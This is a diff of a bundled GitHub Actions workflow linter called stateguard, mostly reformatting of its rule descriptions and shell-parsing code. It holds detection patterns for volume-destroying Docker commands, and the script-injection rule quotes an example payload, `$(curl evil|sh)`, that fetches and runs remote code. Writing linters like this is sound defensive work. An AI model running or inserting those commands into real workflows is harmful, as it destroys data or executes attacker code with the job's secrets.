+        summary: 'A workflow input that feeds consent (`allow_stateful`, `stateful_confirm`, `backup_ref`, or an input of any ' +
+            'name that reaches `allow-stateful`, `confirm` or `backup-ref`) is unsafe: the allow input is not `type: ' +
+            'boolean` with `default: false`, or a confirm or backup input is not `required: true` or has a default.',
+        why: 'A consent input that defaults to yes, or a confirm token or backup reference filled in by default, lets a ' +
+            'run apply to stateful data without the operator deciding it. Renaming the input changes nothing: it is ' +
+            'followed from `workflow_dispatch` and `workflow_call` inputs through `with:` and `env:` to the flag it ' +
+            'feeds, and a default equal to the confirm token confirms every run.',
+        fix: 'Declare the allow input as `{type: boolean, default: false}`, and the confirm and backup inputs with ' +
+            '`required: true` and no `default`, whatever they are called.',
+        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
     },
     {
         id: 'SG104',
         name: 'apply-concurrency',
         severity: 'error',
-        summary: "A job running a mutating stateguard command has no `concurrency` group (job or workflow level), a group that is different for every run (it reads `github.run_id`, `run_number` or `run_attempt`), or sets `cancel-in-progress` to anything but `false`.",
-        why: "Two applies to the same module at once race on its data; a group unique to each run serialises nothing; cancelling an apply mid-way is a crash in the middle of a change.",
-        fix: 'Add `concurrency: { group: stateful-apply-${{ inputs.module }}, cancel-in-progress: false }` to the apply job.',
-        coveredBy: "Neither actionlint nor zizmor: this rule is specific to stateguard.",
+        summary: 'A job running a mutating stateguard command has no `concurrency` group (job or workflow level), a group that ' +
+            'is different for every run (it reads `github.run_id`, `run_number` or `run_attempt`), or sets ' +
+            '`cancel-in-progress` to anything but `false`.',
+        why: 'Two applies to the same module at once race on its data; a group unique to each run serialises nothing; ' +
+            'cancelling an apply mid-way is a crash in the middle of a change.',
+        fix: 'Add `concurrency: { group: stateful-apply-${{ inputs.module }}, cancel-in-progress: false }` to the apply ' +
+            'job.',
+        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
     },
     {
         id: 'SG105',
         name: 'gate-continue-on-error',
         severity: 'error',
-        summary: 'A guard, verify-backup, e2e-gate or apply step (or the job holding it) has `continue-on-error` set to anything but `false`.',
-        why: 'These steps exist to say no. With `continue-on-error: true` a "no" turns into a green check and the workflow goes on as if the gate had passed.',
-        fix: 'Remove `continue-on-error` from the step and its job. To react to a refusal, branch on the step\'s `failure-reason` output in a later step with `if: failure()`.',
-        coveredBy: "Neither actionlint nor zizmor: this rule is specific to stateguard.",
+        summary: 'A guard, verify-backup, e2e-gate or apply step (or the job holding it) has `continue-on-error` set to ' +
+            'anything but `false`.',
+        why: 'These steps exist to say no. With `continue-on-error: true` a "no" turns into a green check and the ' +
+            'workflow goes on as if the gate had passed.',
+        fix: "Remove `continue-on-error` from the step and its job. To react to a refusal, branch on the step's " +
+            '`failure-reason` output in a later step with `if: failure()`.',
+        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
     },
     {
         id: 'SG106',
         name: 'compose-volume-removal',
         severity: 'error',
-        summary: "A `run:` deletes or recreates Docker volumes: `docker compose`/`docker-compose` with `down`/`rm` `-v`/`--volumes`, `-V`/`--renew-anon-volumes` or `-y`/`--yes`; `docker volume rm`/`prune`; `docker system prune --volumes`; `docker rm -v`. Checked in every workflow.",
-        why: "These commands delete or recreate volumes, or answer yes to compose's \"data will be lost\" prompt: exactly the data stateguard exists to protect, in any workflow. The script is read the way a shell reads it (quotes, docker and compose global options such as `--context` or `-p`, a command kept in a variable such as `DC=\"docker compose\"; $DC down -v`, `sudo`, `bash -c '\u2026'`, `$( )`), not matched as text.",
-        fix: "Drop the flag (`docker compose down` keeps named volumes). Change a stateful service only through stateguard's guarded apply; remove a volume by hand after a verified backup. For a deliberate exception, such as a throw-away test stack, suppress it on that line with the reason: `# stateguard-lint: ignore SG106 -- <why this is safe>`.",
-        coveredBy: "Neither actionlint nor zizmor: this rule is specific to stateguard.",
+        summary: 'A `run:` deletes or recreates Docker volumes: `docker compose`/`docker-compose` with `down`/`rm` ' +
+            '`-v`/`--volumes`, `-V`/`--renew-anon-volumes` or `-y`/`--yes`; `docker volume rm`/`prune`; `docker system ' +
+            'prune --volumes`; `docker rm -v`. Checked in every workflow.',
+        why: 'These commands delete or recreate volumes, or answer yes to compose\'s "data will be lost" prompt: exactly ' +
+            'the data stateguard exists to protect, in any workflow. The script is read the way a shell reads it (quotes, ' +
+            'docker and compose global options such as `--context` or `-p`, a command kept in a variable such as ' +
+            '`DC="docker compose"; $DC down -v`, `sudo`, `bash -c \'\u2026\'`, `$( )`), not matched as text.',
+        fix: 'Drop the flag (`docker compose down` keeps named volumes). Change a stateful service only through ' +
+            "stateguard's guarded apply; remove a volume by hand after a verified backup. For a deliberate exception, such " +
+            'as a throw-away test stack, suppress it on that line with the reason: `# stateguard-lint: ignore SG106 -- ' +
+            '<why this is safe>`.',
+        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
     },
     {
         id: 'SG107',
         name: 'dispatch-consent-prefilled',
         severity: 'error',
-        summary: 'A workflow with an automatic trigger dispatches a workflow with consent filled in: `gh workflow run … -f allow_stateful=true` (or `--field`/`-F`/`--raw-field`, or `stateful_confirm=…`), `gh api …/dispatches` or `curl …/dispatches` with such inputs, or actions/github-script `createWorkflowDispatch` with `allow_stateful`.',
-        why: 'SG101 keeps the apply on `workflow_dispatch`, but a push, schedule or workflow_run that dispatches the apply workflow with `allow_stateful` and the confirm token already set is the same automatic apply, one hop away: consent filled in by automation is no consent. `if:` conditions are not trusted to restrict triggers.',
-        fix: 'Dispatch without consent inputs (the operator ticks `allow_stateful` and types the confirm token when they run the apply workflow by hand), or dispatch from a workflow triggered only by `workflow_dispatch` that passes on its own operator-typed inputs.',
-        coveredBy: "Neither actionlint nor zizmor: this rule is specific to stateguard.",
+        summary: 'A workflow with an automatic trigger dispatches a workflow with consent filled in: `gh workflow run … -f ' +
+            'allow_stateful=true` (or `--field`/`-F`/`--raw-field`, or `stateful_confirm=…`), `gh api …/dispatches` or ' +
+            '`curl …/dispatches` with such inputs, or actions/github-script `createWorkflowDispatch` with ' +
+            '`allow_stateful`.',
+        why: 'SG101 keeps the apply on `workflow_dispatch`, but a push, schedule or workflow_run that dispatches the ' +
+            'apply workflow with `allow_stateful` and the confirm token already set is the same automatic apply, one hop ' +
+            'away: consent filled in by automation is no consent. `if:` conditions are not trusted to restrict triggers.',
+        fix: 'Dispatch without consent inputs (the operator ticks `allow_stateful` and types the confirm token when they ' +
+            'run the apply workflow by hand), or dispatch from a workflow triggered only by `workflow_dispatch` that ' +
+            'passes on its own operator-typed inputs.',
+        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
     },
     {
         id: 'SG201',
         name: 'script-injection',
         severity: 'error',
-        summary: "An expression that reads untrusted data (`github.event.*`, `github.head_ref`, `inputs.*`, a whole context as in `toJSON(github.event)`, or `env.X` where X was set from such data at workflow, job or step level) is interpolated into a `run:` script or an actions/github-script `script:`. Context names are case-insensitive, as in GitHub's expression parser.",
-        why: 'The expression is pasted into the script text before the shell or JavaScript parses it: a branch name or title such as `$(curl evil|sh)` runs as code with the job\'s token and secrets.',
-        fix: 'Pass the value through `env:` (`env: { TITLE: ${{ github.event.pull_request.title }} }`) and use `"$TITLE"` (or `process.env.TITLE`) in the script.',
-        coveredBy: "Partly. actionlint reports untrusted `github.event.*`/`github.head_ref` inputs in `run:` and github-script; zizmor's template-injection audit reports expressions in `run:` more broadly (its own set of contexts and confidence levels). Following the taint through `env:` into `${{ env.X }}` and treating `inputs.*` as untrusted is stateguard's.",
+        summary: 'An expression that reads untrusted data (`github.event.*`, `github.head_ref`, `inputs.*`, a whole context as ' +
+            'in `toJSON(github.event)`, or `env.X` where X was set from such data at workflow, job or step level) is ' +
+            'interpolated into a `run:` script or an actions/github-script `script:`. Context names are ' +
+            "case-insensitive, as in GitHub's expression parser.",
+        why: 'The expression is pasted into the script text before the shell or JavaScript parses it: a branch name or ' +
+            "title such as `$(curl evil|sh)` runs as code with the job's token and secrets.",
+        fix: 'Pass the value through `env:` (`env: { TITLE: ${{ github.event.pull_request.title }} }`) and use ' +
+            '`"$TITLE"` (or `process.env.TITLE`) in the script.',
+        coveredBy: 'Partly. actionlint reports untrusted `github.event.*`/`github.head_ref` inputs in `run:` and github-script; ' +
+            "zizmor's template-injection audit reports expressions in `run:` more broadly (its own set of contexts and " +
+            'confidence levels). Following the taint through `env:` into `${{ env.X }}` and treating `inputs.*` as ' +
+            "untrusted is stateguard's.",
     },
     {
         id: 'SG202',
         name: 'permissions',
         severity: 'error',
         summary: 'The workflow has no top-level `permissions`, or grants `write-all` (top level or job).',
-        why: 'Without `permissions` the token gets the repository default, often write to everything; a compromised step can then push code or rewrite workflows.',
-        fix: 'Add a top-level `permissions:` with the least the workflow needs (e.g. `contents: read`) and widen per job only where needed (e.g. `pull-requests: write` for the plan comment).',
-        coveredBy: "zizmor's excessive-permissions audit (missing or broad permissions); actionlint only checks that permission scopes are valid.",
+        why: 'Without `permissions` the token gets the repository default, often write to everything; a compromised step ' +
+            'can then push code or rewrite workflows.',
+        fix: 'Add a top-level `permissions:` with the least the workflow needs (e.g. `contents: read`) and widen per job ' +
+            'only where needed (e.g. `pull-requests: write` for the plan comment).',
+        coveredBy: "zizmor's excessive-permissions audit (missing or broad permissions); actionlint only checks that permission " +
+            'scopes are valid.',
     },
     {
         id: 'SG203',
         name: 'untrusted-checkout',
         severity: 'error',
-        summary: '`pull_request_target` or `workflow_run` together with an actions/checkout of the pull request\'s head.',
-        why: 'Those triggers run with the base repository\'s secrets and a write token; checking out the PR head then runs the contributor\'s code with them ("pwn request").',
-        fix: 'Use the `pull_request` trigger for anything that builds or runs the PR\'s code, or check out only the base ref in the privileged workflow.',
-        coveredBy: "zizmor's dangerous-triggers audit flags `pull_request_target`/`workflow_run` themselves (more broadly); actionlint does not.",
+        summary: "`pull_request_target` or `workflow_run` together with an actions/checkout of the pull request's head.",
+        why: "Those triggers run with the base repository's secrets and a write token; checking out the PR head then " +
+            'runs the contributor\'s code with them ("pwn request").',
+        fix: "Use the `pull_request` trigger for anything that builds or runs the PR's code, or check out only the base " +
+            'ref in the privileged workflow.',
+        coveredBy: "zizmor's dangerous-triggers audit flags `pull_request_target`/`workflow_run` themselves (more broadly); " +
+            'actionlint does not.',
     },
     {
         id: 'SG301',
         name: 'action-not-pinned',
         severity: 'warning',
         summary: '`uses:` does not pin the action or reusable workflow to a full 40-character commit SHA.',
-        why: 'A tag or branch can be moved to other code at any time; only a commit SHA names exactly the code that runs with your secrets.',
-        fix: 'Pin to the commit SHA and keep the tag in a comment: `uses: actions/checkout@<40-hex-sha> # v4`. Local `./` actions and `docker://` images with a `@sha256:` digest are exempt.',
+        why: 'A tag or branch can be moved to other code at any time; only a commit SHA names exactly the code that runs ' +
+            'with your secrets.',
+        fix: 'Pin to the commit SHA and keep the tag in a comment: `uses: actions/checkout@<40-hex-sha> # v4`. Local ' +
+            '`./` actions and `docker://` images with a `@sha256:` digest are exempt.',
         coveredBy: "zizmor's unpinned-uses audit; actionlint does not.",
     },
 ];
@@ -10926,7 +11586,13 @@ function ruleById(id) {
     return BY_ID.get(id);
 }
 function compareProblems(a, b) {
-    return a.file < b.file ? -1 : a.file > b.file ? 1 : a.line - b.line || a.column - b.column || (a.rule < b.rule ? -1 : a.rule > b.rule ? 1 : a.message < b.message ? -1 : a.message > b.message ? 1 : 0);
+    return a.file < b.file
+        ? -1
+        : a.file > b.file
+            ? 1
+            : a.line - b.line ||
+                a.column - b.column ||
+                (a.rule < b.rule ? -1 : a.rule > b.rule ? 1 : a.message < b.message ? -1 : a.message > b.message ? 1 : 0);
 }
 
 ;// CONCATENATED MODULE: ./src/lint/shell.ts
@@ -10939,7 +11605,29 @@ function compareProblems(a, b) {
  */
 
 /** Words before the program that do not change which program runs. */
-const KEYWORDS = new Set(['if', 'then', 'else', 'elif', 'fi', 'do', 'done', 'while', 'until', '!', '{', '}', 'time', 'exec', 'nohup', 'command', 'builtin', 'nice', 'xargs', 'stdbuf', 'timeout']);
+const KEYWORDS = new Set([
+    'if',
+    'then',
+    'else',
+    'elif',
+    'fi',
+    'do',
+    'done',
+    'while',
+    'until',
+    '!',
+    '{',
+    '}',
+    'time',
+    'exec',
+    'nohup',
+    'command',
+    'builtin',
+    'nice',
+    'xargs',
+    'stdbuf',
+    'timeout',
+]);
 const SHELLS = new Set(['sh', 'bash', 'dash', 'zsh', 'ksh', 'ash']);
 const MAX_NESTING = 8;
 const basename = (p) => p.slice(p.lastIndexOf('/') + 1).toLowerCase();
@@ -10981,7 +11669,10 @@ function commandsOf(script, env, base = 0, depth = 0) {
                     out.push(...commandsOf(body.text, vars, body.start + 1, depth + 1));
             }
             else if (prog === 'eval' && argv.length > 1) {
-                out.push(...commandsOf(argv.slice(1).map((w) => w.text).join(' '), vars, argv[1].start, depth + 1));
+                out.push(...commandsOf(argv
+                    .slice(1)
+                    .map((w) => w.text)
+                    .join(' '), vars, argv[1].start, depth + 1));
             }
         }
     }
@@ -11033,7 +11724,11 @@ function stateguardCli(argv) {
         }
     };
     const isStateguardBin = (t) => /^(?:@[^/\s]+\/)?stateguard(?:@\S*)?$/i.test(t) || basename(t) === 'stateguard';
-    if (prog === 'npx' || prog === 'bunx' || (prog === 'npm' && /^(?:exec|x)$/.test(argv[1]?.text ?? '')) || (prog === 'pnpm' && /^(?:dlx|exec)$/.test(argv[1]?.text ?? '')) || prog === 'yarn') {
+    if (prog === 'npx' ||
+        prog === 'bunx' ||
+        (prog === 'npm' && /^(?:exec|x)$/.test(argv[1]?.text ?? '')) ||
+        (prog === 'pnpm' && /^(?:dlx|exec)$/.test(argv[1]?.text ?? '')) ||
+        prog === 'yarn') {
         if (prog !== 'npx' && prog !== 'bunx' && prog !== 'yarn')
             i = 2;
         if (prog === 'yarn' && /^(?:dlx|exec)$/.test(argv[1]?.text ?? ''))
@@ -11048,7 +11743,10 @@ function stateguardCli(argv) {
         const script = argv[i]?.text;
         if (!script)
             return undefined;
-        const normal = script.replace(/\\/g, '/').replace(/\/+/g, '/').replace(/(^|\/)\.\//g, '$1');
+        const normal = script
+            .replace(/\\/g, '/')
+            .replace(/\/+/g, '/')
+            .replace(/(^|\/)\.\//g, '$1');
         if (!/(?:^|\/)dist\/cli\.js$/.test(normal) && !/(?:^|\/)stateguard\//i.test(normal))
             return undefined;
         i++;
@@ -11070,9 +11768,39 @@ function stateguardCli(argv) {
 // ---------------------------------------------------------------------------------------------
 // volume destruction
 /** Docker CLI global options that take a value (so the value is not read as the subcommand). */
-const DOCKER_VALUE = new Set(['-c', '--context', '-H', '--host', '--config', '-l', '--log-level', '--tlscacert', '--tlscert', '--tlskey']);
+const DOCKER_VALUE = new Set([
+    '-c',
+    '--context',
+    '-H',
+    '--host',
+    '--config',
+    '-l',
+    '--log-level',
+    '--tlscacert',
+    '--tlscert',
+    '--tlskey',
+]);
 /** Compose global options that take a value (v2 and v1). */
-const COMPOSE_VALUE = new Set(['-f', '--file', '-p', '--project-name', '--project-directory', '--env-file', '--profile', '--ansi', '--parallel', '--progress', '-c', '--context', '-H', '--host', '--log-level', '--tlscacert', '--tlscert', '--tlskey']);
+const COMPOSE_VALUE = new Set([
+    '-f',
+    '--file',
+    '-p',
+    '--project-name',
+    '--project-directory',
+    '--env-file',
+    '--profile',
+    '--ansi',
+    '--parallel',
+    '--progress',
+    '-c',
+    '--context',
+    '-H',
+    '--host',
+    '--log-level',
+    '--tlscacert',
+    '--tlscert',
+    '--tlskey',
+]);
 /** Subcommands whose words after the service are the container's command, not compose flags. */
 const PASS_THROUGH = new Set(['run', 'exec']);
 const FALSE = /^(?:0|f|false)$/i;
@@ -11106,7 +11834,11 @@ function volumeRemoval(argv) {
         return 'removes volumes (docker volume prune)';
     if (sub === 'system' && firstPositional === 'prune' && rest.some((f) => flagOn(f, '--volumes')))
         return 'removes volumes (docker system prune --volumes)';
-    const rm = sub === 'rm' ? rest : sub === 'container' && firstPositional === 'rm' ? rest.slice(rest.indexOf('rm') + 1) : undefined;
+    const rm = sub === 'rm'
+        ? rest
+        : sub === 'container' && firstPositional === 'rm'
+            ? rest.slice(rest.indexOf('rm') + 1)
+            : undefined;
     if (rm && rm.some((f) => flagOn(f, '--volumes', 'v')))
         return "removes the containers' volumes (docker rm -v)";
     return undefined;
@@ -11189,7 +11921,8 @@ function dispatchWithConsent(argv) {
         return fields(3);
     if (prog === 'gh' && words[1] === 'api' && words.some((w) => /\/dispatches\b/.test(w)))
         return fields(2);
-    if ((prog === 'curl' || prog === 'wget' || prog === 'http' || prog === 'https') && words.some((w) => /\/dispatches\b/.test(w))) {
+    if ((prog === 'curl' || prog === 'wget' || prog === 'http' || prog === 'https') &&
+        words.some((w) => /\/dispatches\b/.test(w))) {
         for (const w of argv) {
             const hit = consentInText(w.text)[0];
             if (hit)
@@ -11282,7 +12015,17 @@ function stateguardCommand(step) {
 const MUTATING = new Set(['apply', 'stateful-apply', 'restore', 'recover', 'upgrade', 'snapshot', '*']);
 /** Commands that take the operator's consent (allow-stateful, backup-ref, confirm). */
 const CONSENT = new Set(['apply', 'stateful-apply', 'restore', 'recover', 'upgrade', '*']);
-const GATES = new Set(['guard', 'verify-backup', 'e2e-gate', 'apply', 'stateful-apply', 'restore', 'recover', 'upgrade', '*']);
+const GATES = new Set([
+    'guard',
+    'verify-backup',
+    'e2e-gate',
+    'apply',
+    'stateful-apply',
+    'restore',
+    'recover',
+    'upgrade',
+    '*',
+]);
 const ROLE_NAMES = {
     allow: { with: 'allow-stateful', flag: '--allow-stateful', input: 'allow_stateful' },
     confirm: { with: 'confirm', flag: '--confirm', input: 'stateful_confirm' },
@@ -11293,7 +12036,11 @@ function lookupEnv(chain, name, caseInsensitive) {
         const env = chain[level];
         if (!isObj(env))
             continue;
-        const key = caseInsensitive ? Object.keys(env).find((k) => k.toLowerCase() === name.toLowerCase()) : Object.hasOwn(env, name) ? name : undefined;
+        const key = caseInsensitive
+            ? Object.keys(env).find((k) => k.toLowerCase() === name.toLowerCase())
+            : Object.hasOwn(env, name)
+                ? name
+                : undefined;
         if (key !== undefined)
             return { value: env[key], level };
     }
@@ -11341,7 +12088,14 @@ function literalEnv(chain) {
 function checkWorkflow(wf) {
     const problems = [];
     const report = (rule, pos, message) => {
-        problems.push({ file: wf.file, line: pos.line, column: pos.column, rule, severity: ruleById(rule).severity, message });
+        problems.push({
+            file: wf.file,
+            line: pos.line,
+            column: pos.column,
+            rule,
+            severity: ruleById(rule).severity,
+            message,
+        });
     };
     const root = wf.value;
     const triggers = triggerNames(root.on);
@@ -11375,14 +12129,20 @@ function checkWorkflow(wf) {
                             for (const key of new Set([name, name.replace(/-/g, '_')])) {
                                 if (!(key in w))
                                     continue;
-                                sinks.push({ role, key, pos: wf.at([...path, 'with', key]), source: sourceOfValue(w[key], envChain), shown: JSON.stringify(w[key]) });
+                                sinks.push({
+                                    role,
+                                    key,
+                                    pos: wf.at([...path, 'with', key]),
+                                    source: sourceOfValue(w[key], envChain),
+                                    shown: JSON.stringify(w[key]),
+                                });
                             }
                         }
                         const token = w['confirm-token'] ?? w.confirm_token;
                         info.invocations.push({
                             command: usesCommand,
                             pos: wf.at([...path, 'uses']),
-                            label: `${where} (${String(step.uses)}${usesCommand === '*' ? ', command given by an expression: stateguard assumes it may be apply' : ''})`,
+                            label: `${where} (${String(step.uses)}${usesCommand === '*' ? ', command given by an expression: ' + 'stateguard assumes it may be apply' : ''})`,
                             sinks,
                             confirmToken: typeof token === 'string' ? token : 'BACKUP_DONE',
                         });
@@ -11412,18 +12172,37 @@ function checkWorkflow(wf) {
                                     if (t === flag) {
                                         // --allow-stateful is a boolean flag: alone it means true, whatever follows.
                                         const value = role === 'allow' ? undefined : cli.args[j + 1];
-                                        sinks.push({ role, key: flag, pos: at(word), source: value ? sourceOfWord(value.text, envChain) : { kind: 'other' }, shown: value ? JSON.stringify(value.text) : role === 'allow' ? 'given alone, which means true' : 'no value' });
+                                        sinks.push({
+                                            role,
+                                            key: flag,
+                                            pos: at(word),
+                                            source: value ? sourceOfWord(value.text, envChain) : { kind: 'other' },
+                                            shown: value
+                                                ? JSON.stringify(value.text)
+                                                : role === 'allow'
+                                                    ? 'given alone, which means true'
+                                                    : 'no value',
+                                        });
                                     }
                                     else if (t.startsWith(flag + '=')) {
                                         const value = t.slice(flag.length + 1);
-                                        sinks.push({ role, key: flag, pos: at(word), source: sourceOfWord(value, envChain), shown: JSON.stringify(value) });
+                                        sinks.push({
+                                            role,
+                                            key: flag,
+                                            pos: at(word),
+                                            source: sourceOfWord(value, envChain),
+                                            shown: JSON.stringify(value),
+                                        });
                                     }
                                 }
                             });
                             info.invocations.push({
                                 command: cli.command,
                                 pos: at(c.argv[0]),
-                                label: `${where} (run: ${c.argv.slice(0, 4).map((w) => w.text).join(' ')}${cli.command === '*' ? ', command given by a variable: stateguard assumes it may be apply' : ''})`,
+                                label: `${where} (run: ${c.argv
+                                    .slice(0, 4)
+                                    .map((w) => w.text)
+                                    .join(' ')}${cli.command === '*' ? ', command given by a variable: stateguard assumes it may be apply' : ''})`,
                                 sinks,
                                 confirmToken,
                             });
@@ -11448,11 +12227,16 @@ function checkWorkflow(wf) {
         const forbidden = inv.command === 'snapshot' ? automatic.filter((t) => t !== 'schedule') : automatic;
         if (forbidden.length > 0) {
             report('SG101', inv.pos, inv.command === 'snapshot'
-                ? `${inv.label} stops a stateful module but this workflow also runs on ${forbidden.map((t) => `'${t}'`).join(', ')}; only workflow_dispatch or schedule may run a snapshot`
-                : `${inv.label} changes stateful modules but this workflow also runs on ${forbidden.map((t) => `'${t}'`).join(', ')}; only workflow_dispatch may run it (move it to a workflow triggered only by workflow_dispatch)`);
+                ? `${inv.label} stops a stateful module but this workflow also runs on ` +
+                    `${forbidden.map((t) => `'${t}'`).join(', ')}; only workflow_dispatch or schedule may run a snapshot`
+                : `${inv.label} changes stateful modules but this workflow also runs on ` +
+                    `${forbidden.map((t) => `'${t}'`).join(', ')}; only workflow_dispatch may run it (move it to a ` +
+                    `workflow ` +
+                    `triggered only by workflow_dispatch)`);
         }
         else if (triggers.length === 0) {
-            report('SG101', inv.pos, `${inv.label} changes stateful modules but the workflow declares no trigger; declare 'on: workflow_dispatch' only`);
+            report('SG101', inv.pos, `${inv.label} changes stateful modules but the workflow declares no trigger; declare 'on: workflow_dispatch' ` +
+                `only`);
         }
     }
     // SG102: consent values of a mutating call must come from workflow inputs (directly or via env:).
@@ -11477,7 +12261,9 @@ function checkWorkflow(wf) {
                 continue;
             }
             const suggestion = ROLE_NAMES[sink.role].input;
-            report('SG102', sink.pos, `'${sink.key}' of ${inv.label} is hard-coded or not from a workflow input (${sink.shown}); take it from a workflow_dispatch input, e.g. \${{ inputs.${suggestion} }}${sink.key.startsWith('--') ? ` passed through env: (${sink.key}="$${suggestion.toUpperCase()}")` : ''}`);
+            report('SG102', sink.pos, `'${sink.key}' of ${inv.label} is hard-coded or not from a workflow input ` +
+                `(${sink.shown}); take it from a workflow_dispatch input, e.g. \${{ ` +
+                `inputs.${suggestion} }}${sink.key.startsWith('--') ? ` passed through env: ` + `(${sink.key}="$${suggestion.toUpperCase()}")` : ''}`);
         }
     }
     // SG103: the shape of every input that feeds consent, whatever its name.
@@ -11494,25 +12280,29 @@ function checkWorkflow(wf) {
             const what = `${trigger === 'workflow_dispatch' ? 'dispatch' : 'workflow_call'} input '${declared}'`;
             const has = (k) => isObj(input) && k in input;
             const get = (k) => (isObj(input) ? input[k] : undefined);
-            const feeds = (role) => (declared.toLowerCase() === ROLE_NAMES[role].input ? '' : ` (it feeds ${ROLE_NAMES[role].with})`);
+            const feeds = (role) => declared.toLowerCase() === ROLE_NAMES[role].input ? '' : ` (it feeds ${ROLE_NAMES[role].with})`;
             if (set.has('allow')) {
                 if (get('type') !== 'boolean') {
-                    report('SG103', has('type') ? wf.at([...p, 'type']) : wf.at(p, 'key'), `${what}${feeds('allow')} must be 'type: boolean' (got ${has('type') ? JSON.stringify(get('type')) : 'no type'})`);
+                    report('SG103', has('type') ? wf.at([...p, 'type']) : wf.at(p, 'key'), `${what}${feeds('allow')} must be 'type: boolean' (got ` +
+                        `${has('type') ? JSON.stringify(get('type')) : 'no type'})`);
                 }
                 if (get('default') !== false) {
-                    report('SG103', has('default') ? wf.at([...p, 'default']) : wf.at(p, 'key'), `${what}${feeds('allow')} must have 'default: false' (got ${has('default') ? JSON.stringify(get('default')) : 'no default'})`);
+                    report('SG103', has('default') ? wf.at([...p, 'default']) : wf.at(p, 'key'), `${what}${feeds('allow')} must have 'default: false' (got ` +
+                        `${has('default') ? JSON.stringify(get('default')) : 'no default'})`);
                 }
             }
             for (const role of ['confirm', 'backup']) {
                 if (!set.has(role))
                     continue;
                 if (get('required') !== true) {
-                    report('SG103', has('required') ? wf.at([...p, 'required']) : wf.at(p, 'key'), `${what}${feeds(role)} must be 'required: true' (got ${has('required') ? JSON.stringify(get('required')) : 'not required'})`);
+                    report('SG103', has('required') ? wf.at([...p, 'required']) : wf.at(p, 'key'), `${what}${feeds(role)} must be 'required: true' (got ` +
+                        `${has('required') ? JSON.stringify(get('required')) : 'not required'})`);
                 }
                 if (has('default')) {
                     const token = tokens.get(declared.toLowerCase());
                     const isToken = role === 'confirm' && token !== undefined && String(get('default')) === token;
-                    report('SG103', wf.at([...p, 'default']), `${what}${feeds(role)} must not have a default (got ${JSON.stringify(get('default'))}${isToken ? ', the confirm token itself: every run would confirm' : ''}): the operator types it for each run`);
+                    report('SG103', wf.at([...p, 'default']), `${what}${feeds(role)} must not have a default (got ` +
+                        `${JSON.stringify(get('default'))}${isToken ? ', the confirm token itself: every run would ' + 'confirm' : ''}): the operator types it for each run`);
                 }
             }
         }
@@ -11524,18 +12314,22 @@ function checkWorkflow(wf) {
             continue;
         const jobConcurrency = j.job.concurrency;
         if (!hasGroup(jobConcurrency) && !hasGroup(wfConcurrency)) {
-            report('SG104', wf.at(['jobs', j.id], 'key'), `job '${j.id}' runs a stateful apply without a concurrency group; add 'concurrency: { group: stateful-apply-\${{ inputs.module }}, cancel-in-progress: false }'`);
+            report('SG104', wf.at(['jobs', j.id], 'key'), `job '${j.id}' runs a stateful apply without a concurrency group; add 'concurrency: { group: ` +
+                `stateful-apply-\${{ inputs.module }}, cancel-in-progress: false }'`);
         }
         for (const [c, p] of [
             [jobConcurrency, ['jobs', j.id, 'concurrency']],
             [wfConcurrency, ['concurrency']],
         ]) {
             if (isObj(c) && 'cancel-in-progress' in c && c['cancel-in-progress'] !== false) {
-                report('SG104', wf.at([...p, 'cancel-in-progress']), `job '${j.id}' runs a stateful apply with cancel-in-progress ${JSON.stringify(c['cancel-in-progress'])}; cancelling mid-apply is a crash: set it to false or remove it`);
+                report('SG104', wf.at([...p, 'cancel-in-progress']), `job '${j.id}' runs a stateful apply with cancel-in-progress ` +
+                    `${JSON.stringify(c['cancel-in-progress'])}; cancelling mid-apply is a crash: set it to false or remove it`);
             }
             const group = typeof c === 'string' ? c : isObj(c) && typeof c.group === 'string' ? c.group : undefined;
             if (group !== undefined && perRun(group)) {
-                report('SG104', wf.at(typeof c === 'string' ? p : [...p, 'group']), `job '${j.id}' runs a stateful apply in concurrency group ${JSON.stringify(group)}, which is different for every run (run_id/run_number/run_attempt) and so serialises nothing; key it by the module, e.g. stateful-apply-\${{ inputs.module }}`);
+                report('SG104', wf.at(typeof c === 'string' ? p : [...p, 'group']), `job '${j.id}' runs a stateful apply in concurrency group ` +
+                    `${JSON.stringify(group)}, which is different for every run (run_id/run_number/run_attempt) and so ` +
+                    `serialises nothing; key it by the module, e.g. stateful-apply-\${{ inputs.module }}`);
             }
         }
     }
@@ -11544,12 +12338,14 @@ function checkWorkflow(wf) {
         const gates = j.steps.filter((s) => s.invocations.some((i) => GATES.has(i.command)));
         for (const s of gates) {
             if ('continue-on-error' in s.step && s.step['continue-on-error'] !== false) {
-                report('SG105', wf.at([...s.path, 'continue-on-error']), `${s.invocations[0].label} has continue-on-error ${JSON.stringify(s.step['continue-on-error'])}: its "no" would pass; remove it`);
+                report('SG105', wf.at([...s.path, 'continue-on-error']), `${s.invocations[0].label} has continue-on-error ` +
+                    `${JSON.stringify(s.step['continue-on-error'])}: its "no" would pass; remove it`);
             }
         }
         if (gates.length > 0 && 'continue-on-error' in j.job && j.job['continue-on-error'] !== false) {
             const names = gates.flatMap((g) => g.invocations.filter((i) => GATES.has(i.command)).map((i) => i.command));
-            report('SG105', wf.at(['jobs', j.id, 'continue-on-error']), `job '${j.id}' holds ${names.length === 1 ? 'a stateguard gate' : `${names.length} stateguard gates`} (${names.join(', ')}) and has continue-on-error ${JSON.stringify(j.job['continue-on-error'])}: a "no" would pass; remove it`);
+            report('SG105', wf.at(['jobs', j.id, 'continue-on-error']), `job '${j.id}' holds ${names.length === 1 ? 'a stateguard ' + 'gate' : `${names.length} stateguard gates`} (${names.join(', ')}) and has continue-on-error ` +
+                `${JSON.stringify(j.job['continue-on-error'])}: a "no" would pass; remove it`);
         }
     }
     // SG106: volume-destroying docker commands in any run: (docs/rules.md SG106).
@@ -11559,12 +12355,15 @@ function checkWorkflow(wf) {
             if (!effect)
                 continue;
             const first = c.argv[0];
-            report('SG106', wf.positionInValue([...s.path, 'run'], first.start, first.text), `'${c.argv.map((w) => w.text).join(' ')}' in step ${s.index + 1} of job '${s.jobId}' ${effect}: the data stateguard protects`);
+            report('SG106', wf.positionInValue([...s.path, 'run'], first.start, first.text), `'${c.argv.map((w) => w.text).join(' ')}' in step ${s.index + 1} of job '${s.jobId}' ${effect}: the data ` +
+                `stateguard protects`);
         }
     }
     // SG107: an automatic trigger dispatching a workflow with consent filled in.
     if (automatic.length > 0) {
